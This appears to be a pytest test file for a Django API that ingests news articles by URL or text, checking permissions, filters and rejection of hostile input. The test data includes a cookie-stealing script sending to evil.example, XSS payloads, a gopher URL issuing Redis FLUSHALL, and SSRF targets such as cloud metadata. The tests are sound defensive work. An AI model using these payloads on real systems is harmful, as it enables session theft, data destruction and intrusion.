"""POST/GET /api/v1/articles/: submit URLs and texts, filter, and never a 500 on hostile input."""

import json

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from sources.models import Article
from tests.factories import ArticleFactory, AttackFactory, OutletFactory
from tests.sources.pages import article_html

pytestmark = pytest.mark.django_db

STORY = (
    "Regional authorities said three people were killed when a guided bomb struck an apartment block.",
    "Another nine people were injured, two of them children, the prosecutor's office added.",
)
LIST = reverse("api-article-list")


@pytest.fixture
def client_as():
    def make(user=None):
        client = APIClient()
        if user is not None:
            client.force_authenticate(user)
        return client

    return make


def post(client, body, **kwargs):
    return client.post(LIST, body, format="json", **kwargs)


# --- Submitting ---


def test_analyst_submits_a_url_and_gets_the_fetched_article(client_as, analyst, site, committed):
    url = site.page("/news/bomb", article_html("Guided bomb", *STORY))

    with committed():
        response = post(client_as(analyst), {"url": url})

    assert response.status_code == 201
    body = response.json()
    assert body["canonical_url"] == url
    assert "raw_body" not in body
    article = Article.objects.get(pk=body["id"])
    assert article.status == "fetched"
    assert article.submitted_by == analyst


def test_same_url_again_is_200_with_the_existing_article(client_as, analyst, site, committed):
    url = site.page("/news/again", article_html("Again", *STORY))
    client = client_as(analyst)
    with committed():
        first = post(client, {"url": url})

    second = post(client, {"url": url + "?utm_source=x#top"})

    assert second.status_code == 200
    assert second.json()["id"] == first.json()["id"]
    assert second.json()["status"] == "fetched"
    assert Article.objects.count() == 1


def test_analyst_submits_a_text_with_metadata(client_as, analyst):
    response = post(
        client_as(analyst),
        {
            "text": "\n".join(STORY),
            "outlet": "Regional Herald",
            "title": "Bomb strike",
            "published_at": "2025-04-24T10:00:00+03:00",
            "url": "https://herald.example.org/bomb?utm_source=tg",
        },
    )

    assert response.status_code == 201
    body = response.json()
    assert body["status"] == "fetched"
    assert body["origin"] == "text"
    assert body["outlet_name"] == "Regional Herald"
    assert body["canonical_url"] == "https://herald.example.org/bomb"
    assert body["published_at"].startswith("2025-04-24T10:00:00")
    assert body["text"] == "\n".join(STORY)


def test_same_text_again_is_200(client_as, analyst):
    client = client_as(analyst)
    first = post(client, {"text": "\n".join(STORY)})
    second = post(client, {"text": " ".join(STORY)})

    assert (first.status_code, second.status_code) == (201, 200)
    assert second.json()["id"] == first.json()["id"]


def test_html_and_script_in_pasted_text_come_back_as_plain_text(client_as, analyst):
    response = post(
        client_as(analyst),
        {
            "text": "<p>Three killed.</p><script>document.location='https://evil.example/'+document.cookie</script>"
            "<img src=x onerror=alert(1)><p>Nine injured.</p>"
        },
    )

    assert response.status_code == 201
    text = response.json()["text"]
    assert text == "Three killed.\nNine injured."


@pytest.mark.parametrize("role", [None, "researcher"])
def test_only_analysts_and_up_may_submit(role, client_as, request):
    user = request.getfixturevalue(role) if role else None

    response = post(client_as(user), {"url": "https://news.example.org/a"})

    assert response.status_code in (401, 403)
    assert Article.objects.count() == 0


def test_editor_may_submit(client_as, editor):
    assert post(client_as(editor), {"text": "\n".join(STORY)}).status_code == 201


# --- Hostile input: a clear 4xx or a recorded refusal, never a 500 ---


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({}, "detail"),
        ({"url": ""}, "detail"),
        ({"url": "javascript:alert(1)"}, "url"),
        ({"url": "file:///etc/passwd"}, "url"),
        ({"url": "gopher://127.0.0.1:6379/_FLUSHALL"}, "url"),
        ({"url": "http://user:pass@example.org/"}, "url"),
        ({"url": "http://[::1"}, "url"),
        ({"url": "http://example.org:99999/"}, "url"),
        ({"url": "https://example.org/" + "a" * 2100}, "url"),
        ({"url": "https://example.org/\u0000"}, "url"),
        ({"url": 12345}, "url"),
        ({"url": ["https://example.org/"]}, "url"),
        ({"url": {"href": "https://example.org/"}}, "url"),
        ({"url": None}, "url"),
        ({"text": ""}, "detail"),
        ({"text": "   "}, "text"),
        ({"text": "a\u0000b"}, "text"),
        ({"text": "<script>alert(1)</script>"}, "text"),
        ({"text": ["list"]}, "text"),
        ({"text": "ok", "published_at": "yesterday"}, "published_at"),
        ({"text": "ok", "published_at": "99999-01-01T00:00:00"}, "published_at"),
        ({"text": "ok", "title": "t" * 1001}, "title"),
        ({"text": "ok", "outlet": "o" * 201}, "outlet"),
        ({"text": "ok", "url": "ftp://example.org/"}, "url"),
        ({"url": "https://example.org/", "title": "Mine"}, "title"),
        ({"url": "https://example.org/", "admin": True}, "admin"),
    ],
)
def test_bad_input_is_a_400_naming_the_field(body, field, client_as, analyst):
    response = post(client_as(analyst), body)

    assert response.status_code == 400, response.content
    assert field in response.json()
    assert Article.objects.count() == 0


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (b"[1, 2, 3]", "application/json"),
        (b'"just a string"', "application/json"),
        (b"null", "application/json"),
        (b"{not json", "application/json"),
        (b"\xff\xfe\x00garbage", "application/json"),
        (b"url=javascript:alert(1)", "application/x-www-form-urlencoded"),
        (b"<xml/>", "application/xml"),
    ],
)
def test_malformed_bodies_are_4xx(content, content_type, client_as, analyst):
    response = client_as(analyst).generic("POST", LIST, content, content_type=content_type)

    assert 400 <= response.status_code < 500


def test_oversized_body_is_a_4xx(client_as, analyst, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100_000
    body = json.dumps({"text": "word " * 50_000}).encode()

    response = client_as(analyst).generic("POST", LIST, body, content_type="application/json")

    assert 400 <= response.status_code < 500
    assert Article.objects.count() == 0


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.1/",
        "http://[::1]/",
        "http://localhost/",
        "http://0.0.0.0:8080/",
    ],
)
def test_private_addresses_are_accepted_then_recorded_as_refused(url, client_as, analyst, committed, connections):
    with committed():
        response = post(client_as(analyst), {"url": url})

    assert response.status_code == 201
    article = Article.objects.get(pk=response.json()["id"])
    assert article.status == "refused"
    assert "address" in article.error
    assert connections == []


# --- Reading ---


def test_public_sees_only_articles_behind_published_attacks(client_as):
    published = ArticleFactory(attack=AttackFactory(status="published"))
    ArticleFactory(attack=AttackFactory(status="draft"))
    ArticleFactory(attack=None)

    response = client_as(None).get(LIST)

    assert response.status_code == 200
    assert [row["id"] for row in response.json()["results"]] == [published.pk]


def test_staff_see_every_article_and_never_the_raw_body(client_as, analyst):
    ArticleFactory.create_batch(3, raw_body=b"x")

    response = client_as(analyst).get(LIST)

    assert len(response.json()["results"]) == 3
    assert all("raw_body" not in row for row in response.json()["results"])


def test_filters_by_status_outlet_dates_and_update_time(client_as, analyst):
    outlet = OutletFactory()
    ArticleFactory(status="failed", outlet=outlet, published_at="2025-04-23T12:00:00+03:00")
    wanted = ArticleFactory(status="fetched", outlet=outlet, published_at="2025-04-24T23:30:00+03:00")
    ArticleFactory(status="fetched", published_at="2025-04-24T12:00:00+03:00")
    client = client_as(analyst)

    response = client.get(
        LIST,
        {
            "status": "fetched,extracted",
            "outlet": outlet.pk,
            "published_after": "2025-04-24",
            "published_before": "2025-04-24",
            "updated_since": "2020-01-01T00:00:00Z",
        },
    )

    assert response.status_code == 200
    assert [row["id"] for row in response.json()["results"]] == [wanted.pk]
    assert client.get(LIST, {"updated_since": "2999-01-01"}).json()["results"] == []


@pytest.mark.parametrize(
    "params",
    [
        {"status": "bogus"},
        {"outlet": "abc"},
        {"outlet": "99999999999999999999999"},
        {"published_after": "tomorrow"},
        {"updated_since": "2025-13-45"},
        {"nonsense": "1"},
        {"page_size": "0"},
        {"cursor": "garbage"},
        {"fields": "raw_body"},
        {"status": "fetched\u0000"},
    ],
)
def test_bad_filters_are_400_not_500(params, client_as, analyst):
    response = client_as(analyst).get(LIST, params)

    assert 400 <= response.status_code < 500


def test_filters_by_language(client_as, analyst):
    ukrainian = ArticleFactory(language="uk")
    russian = ArticleFactory(language="ru")
    ArticleFactory(language="en")
    client = client_as(analyst)

    only_uk = client.get(LIST, {"language": "uk"}).json()["results"]
    uk_or_ru = client.get(LIST, {"language": "uk,ru"}).json()["results"]

    assert [row["id"] for row in only_uk] == [ukrainian.pk]
    assert sorted(row["id"] for row in uk_or_ru) == sorted([ukrainian.pk, russian.pk])


def test_count_and_fields(client_as, analyst):
    ArticleFactory.create_batch(2)
    client = client_as(analyst)

    assert client.get(LIST, {"count": "on"}).json() == {"count": 2}
    row = client.get(LIST, {"fields": "id,status"}).json()["results"][0]
    assert set(row) == {"id", "status"}


def test_detail(client_as, analyst):
    article = ArticleFactory(text="Plain <b>text</b> as stored.")

    response = client_as(analyst).get(reverse("api-article-detail", args=[article.pk]))

    assert response.status_code == 200
    assert response.json()["text"] == "Plain <b>text</b> as stored."
    assert response["Content-Type"].startswith("application/json")


def test_list_query_count_does_not_grow_with_rows(client_as, analyst, django_assert_max_num_queries):
    ArticleFactory.create_batch(30)
    client = client_as(analyst)
    client.get(LIST)  # warm up the user's role cache

    with django_assert_max_num_queries(3):
        response = client.get(LIST, {"page_size": 30})

    assert len(response.json()["results"]) == 30
